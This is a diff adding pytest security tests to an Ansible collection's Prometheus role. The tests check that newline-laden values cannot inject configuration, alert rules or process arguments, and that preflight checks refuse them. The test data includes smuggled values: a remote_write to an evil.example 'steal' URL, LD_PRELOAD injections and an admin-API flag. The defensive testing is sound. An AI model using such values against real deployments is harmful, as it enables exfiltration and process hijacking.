@@ -12,7 +12,11 @@ from pathlib import Path
 import jinja2
 import pytest
 import yaml
+from ansible.parsing.dataloader import DataLoader
+from ansible.plugins.filter.core import FilterModule
+from ansible.template import Templar, trust_as_template
 
+from ansible_collections.containerops.fleet.plugins.filter.file_sd_targets import file_sd_targets
 from ansible_collections.containerops.fleet.plugins.filter.scrape_targets import scrape_targets
 
 ROLES = Path(__file__).resolve().parents[3] / "roles"
@@ -35,7 +39,7 @@ def _render(role: str, template: str, **variables) -> str:
         trim_blocks=True,
         undefined=jinja2.StrictUndefined,
     )
-    env.filters["to_json"] = json.dumps
+    env.filters.update(FilterModule().filters())  # Ansible's own to_json, to_nice_yaml, ...
     env.filters["containerops.fleet.scrape_targets"] = scrape_targets
     return env.get_template(template).render(ansible_managed="managed", **variables)
 
@@ -243,3 +247,210 @@ def test_secret_bearing_files_are_0640_root_grafana_and_not_logged():
     assert all(h["no_log"] is True and h["ansible.builtin.uri"]["method"] == "POST" for h in api)
     spec = _yaml(ROLES / "grafana" / "meta" / "argument_specs.yml")["argument_specs"]["main"]["options"]
     assert spec["grafana_admin_password"]["no_log"] is True
+
+
+# --------------------------------------------------------------------------- hostile values cannot add configuration
+
+_EVIL = "\nremote_write:\n  - url: http://evil.example/steal\n"
+_TOP_LEVEL = {"global", "rule_files", "alerting", "scrape_configs"}
+
+
+def _job(config, name):
+    return next(j for j in config["scrape_configs"] if j["job_name"] == name)
+
+
+@pytest.mark.parametrize(
+    ("over", "where"),
+    [
+        ({"prometheus_scrape_interval": "15s" + _EVIL}, lambda c: c["global"]["scrape_interval"]),
+        ({"prometheus_evaluation_interval": "15s" + _EVIL}, lambda c: c["global"]["evaluation_interval"]),
+        ({"prometheus_haproxy_metrics_path": "/metrics" + _EVIL}, lambda c: _job(c, "haproxy")["metrics_path"]),
+        (
+            {"prometheus_file_sd_dir": '/etc/x"]' + _EVIL + "#"},
+            lambda c: _job(c, "fleet_services")["file_sd_configs"][0]["files"][0],
+        ),
+        (
+            {"inventory_hostname": 'mon1"}}]' + _EVIL + "#"},
+            lambda c: _job(c, "prometheus")["static_configs"][0]["labels"]["host"],
+        ),
+        ({"prometheus_external_labels": {"site": "lab" + _EVIL}}, lambda c: c["global"]["external_labels"]["site"]),
+        ({"prometheus_external_labels": {"site" + _EVIL: "lab"}}, lambda c: next(iter(c["global"]["external_labels"]))),
+        (
+            {"prometheus_scrape_configs_extra": [{"job_name": "extra" + _EVIL}]},
+            lambda c: c["scrape_configs"][-1]["job_name"],
+        ),
+        (
+            {"prometheus_alertmanagers": ["10.0.0.8:9093" + _EVIL]},
+            lambda c: c["alerting"]["alertmanagers"][0]["static_configs"][0]["targets"][0],
+        ),
+    ],
+    ids=[
+        "scrape_interval",
+        "evaluation_interval",
+        "haproxy_metrics_path",
+        "file_sd_dir",
+        "inventory_hostname",
+        "external_label_value",
+        "external_label_name",
+        "extra_job_name",
+        "alertmanager",
+    ],
+)
+def test_a_newline_in_a_value_cannot_add_a_key_to_prometheus_yml(over, where):
+    config = yaml.safe_load(_render("prometheus", "prometheus.yml.j2", **_prometheus_vars(**over)))
+    assert set(config) <= _TOP_LEVEL
+    assert "remote_write" not in config
+    assert [j["job_name"] for j in config["scrape_configs"]][:5] == [
+        "prometheus",
+        "node",
+        "haproxy",
+        "docker_engine",
+        "fleet_services",
+    ]
+    assert _EVIL in where(config)  # the value went in whole, as one string
+
+
+def test_a_hostile_host_name_from_the_inventory_stays_a_label():
+    hostvars = {**HOSTVARS, 'node1"' + _EVIL: {"ansible_host": "10.0.0.1"}}
+    variables = _prometheus_vars(hostvars=hostvars, prometheus_node_exporter_hosts=list(hostvars))
+    config = yaml.safe_load(_render("prometheus", "prometheus.yml.j2", **variables))
+    assert set(config) <= _TOP_LEVEL
+    assert 'node1"' + _EVIL in [g["labels"]["host"] for g in _job(config, "node")["static_configs"]]
+
+
+@pytest.mark.parametrize(
+    "variable",
+    [
+        "prometheus_alert_instance_down_for",
+        "prometheus_alert_backend_down_for",
+        "prometheus_alert_5xx_for",
+        "prometheus_alert_latency_for",
+        "prometheus_alert_5xx_ratio",
+        "prometheus_alert_latency_seconds",
+    ],
+)
+def test_a_newline_in_a_threshold_cannot_add_a_rule(variable):
+    hostile = "5m\n      - alert: Evil\n        expr: vector(1)\n  - name: evil\n    rules: []\nevil: 1"
+    groups = yaml.safe_load(_render("prometheus", "fleet-rules.yml.j2", **_prometheus_vars(**{variable: hostile})))
+    assert list(groups) == ["groups"]
+    assert [g["name"] for g in groups["groups"]] == ["fleet"]
+    rules = groups["groups"][0]["rules"]
+    assert [r["alert"] for r in rules] == [
+        "FleetInstanceDown",
+        "FleetHAProxyBackendServerDown",
+        "FleetHigh5xxRate",
+        "FleetHighLatency",
+    ]
+    assert any(hostile in r.get("for", "") or hostile in r["expr"] for r in rules)
+
+
+def test_extra_rules_with_newlines_stay_data():
+    extra = [{"alert": "Mine\n  - name: evil", "expr": "up == 2\n    rules: []", "for": "1m"}]
+    groups = yaml.safe_load(
+        _render("prometheus", "fleet-rules.yml.j2", **_prometheus_vars(prometheus_alert_rules_extra=extra))
+    )["groups"]
+    assert [g["name"] for g in groups] == ["fleet", "fleet_extra"]
+    assert groups[1]["rules"] == extra
+
+
+# --------------------------------------------------------------------------- the role refuses them first
+
+
+def _trusted(value):
+    """What Ansible does to the role's own YAML: its strings may be templates."""
+    if isinstance(value, str):
+        return trust_as_template(value)
+    if isinstance(value, dict):
+        return {k: _trusted(v) for k, v in value.items()}
+    if isinstance(value, list):
+        return [_trusted(v) for v in value]
+    return value
+
+
+def _assert_failures(tasks: list, variables: dict) -> list[str]:
+    """The rendered fail_msg of every assert in `tasks` that fails with `variables` (loops expanded)."""
+    failures = []
+    for task in tasks:
+        spec = task.get("ansible.builtin.assert")
+        if spec is None:
+            continue
+        items = Templar(loader=DataLoader(), variables=variables).template(_trusted(task.get("loop", [None])))
+        for item in items:
+            templar = Templar(loader=DataLoader(), variables={**variables, "item": item})
+            when = task.get("when") or []
+            when = when if isinstance(when, list) else [when]
+            if not all(templar.evaluate_conditional(trust_as_template(c)) for c in when):
+                continue
+            that = spec["that"] if isinstance(spec["that"], list) else [spec["that"]]
+            if not all(templar.evaluate_conditional(trust_as_template(c)) for c in that):
+                failures.append(str(templar.template(trust_as_template(spec["fail_msg"]))))
+    return failures
+
+
+def _prometheus_preflight(**over) -> list[str]:
+    variables = _prometheus_vars(prometheus_endpoints=None, **over)
+    variables.update(_trusted(_yaml(ROLES / "prometheus" / "vars" / "main.yml")))
+    return _assert_failures(_yaml(ROLES / "prometheus" / "tasks" / "preflight.yml"), variables)
+
+
+def test_prometheus_preflight_accepts_the_defaults():
+    assert _prometheus_preflight() == []
+    assert (
+        _prometheus_preflight(
+            prometheus_external_labels={"site": "lab-1", "env": "prod"},
+            prometheus_extra_args=["--web.enable-lifecycle", "--query.timeout=30s"],
+            prometheus_alert_5xx_ratio="0.1",
+            prometheus_alert_latency_seconds=1,
+            prometheus_listen_address="::1",
+            prometheus_retention_size="10GB",
+        )
+        == []
+    )
+
+
+@pytest.mark.parametrize(
+    ("variable", "value"),
+    [
+        ("prometheus_scrape_interval", "15s" + _EVIL),
+        ("prometheus_evaluation_interval", "15s\n"),
+        ("prometheus_alert_instance_down_for", "2m\n"),
+        ("prometheus_alert_backend_down_for", "1m; x"),
+        ("prometheus_alert_5xx_for", "5m" + _EVIL),
+        ("prometheus_alert_latency_for", "soon"),
+        ("prometheus_alert_5xx_ratio", "0.05\n"),
+        ("prometheus_alert_5xx_ratio", "0.05 or vector(1)"),
+        ("prometheus_alert_latency_seconds", "0.5" + _EVIL),
+        ("prometheus_haproxy_metrics_path", "/metrics" + _EVIL),
+        ("prometheus_haproxy_metrics_path", "metrics"),
+        ("prometheus_file_sd_dir", "/etc/prometheus/file_sd/fleet\n"),
+        ("prometheus_file_sd_dir", "/etc/prom etheus"),
+        ("prometheus_storage_path", "/var/lib/prometheus\nLD_PRELOAD=/tmp/x.so"),
+        ("prometheus_listen_address", "10.0.0.5\nLD_PRELOAD=/tmp/x.so"),
+        ("prometheus_listen_address", '10.0.0.5" --web.enable-admin-api "'),
+        ("prometheus_extra_args", ["--web.enable-lifecycle\nLD_PRELOAD=/tmp/x.so"]),
+        ("prometheus_extra_args", ['--x="y"']),
+        ("prometheus_external_labels", {"site": "lab" + _EVIL}),
+        ("prometheus_external_labels", {"si te": "lab"}),
+        ("prometheus_retention_time", "15d\n"),
+        ("prometheus_retention_size", "10GB\n"),
+    ],
+)
+def test_prometheus_preflight_refuses_values_naming_them(variable, value):
+    failures = _prometheus_preflight(**{variable: value})
+    assert any(f.startswith(f"{variable}: ") for f in failures), failures
+
+
+def test_file_sd_refuses_a_service_name_that_cannot_name_a_file():
+    endpoints = [{"service": "web\n", "host": "node1", "address": "10.0.0.1", "port": 8080, "metrics_path": "/m"}]
+    keys = list(file_sd_targets(endpoints))  # the filter lets a trailing newline through (`$`, not `\Z`)
+    tasks = _yaml(ROLES / "prometheus" / "tasks" / "file_sd.yml")
+    checks = [t for t in tasks if "ansible.builtin.assert" in t]
+    assert checks, "file_sd.yml checks the service names before it writes a file"
+    names = [t["name"] for t in tasks]
+    assert names.index(checks[0]["name"]) < names.index("Write one target file per service")
+    assert checks[0]["loop"] == "{{ prometheus_endpoints | containerops.fleet.file_sd_targets | list }}"
+    check = {**checks[0], "loop": keys}
+    variables = {"prometheus_endpoints": endpoints, **_trusted(_yaml(ROLES / "prometheus" / "vars" / "main.yml"))}
+    failures = _assert_failures([check], variables)
+    assert failures and failures[0].startswith("prometheus_endpoints: ")
+    assert _assert_failures([{**check, "loop": ["web", "api.v2", "a_b-1"]}], variables) == []
